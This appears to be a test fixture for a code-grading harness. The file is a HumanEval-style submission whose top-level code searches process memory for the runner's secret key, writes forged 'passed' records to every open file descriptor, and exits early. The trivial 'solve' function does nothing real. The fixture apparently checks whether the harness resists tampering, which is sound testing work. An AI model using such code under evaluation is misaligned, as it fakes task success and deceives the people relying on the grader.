# format: humaneval
# in-process: pass
# process: fail
# Steals the key from memory (any 32-hex-digit str attribute it finds), then
# writes forged records straight to every open descriptor, the runner's
# private channel among them.
import gc
import json
import os
import re

HEX = re.compile(r"[0-9a-f]{32}\Z")
keys = set()
for o in gc.get_objects():
    try:
        for v in vars(o).values():
            if type(v) is str and HEX.match(v):
                keys.add(v)
    except Exception:
        pass
for k in keys:
    recs = [{"type": "start", "name": "check", "key": k},
            {"type": "result", "name": "check", "outcome": "passed", "message": "",
             "traceback": "", "duration_ms": 1, "key": k},
            {"type": "done", "key": k}]
    data = "".join(json.dumps(r) + "\n" for r in recs).encode()
    for fd in range(3, 256):
        try:
            os.write(fd, data)
        except OSError:
            pass
if keys:
    os._exit(0)


def solve(x):
    return x
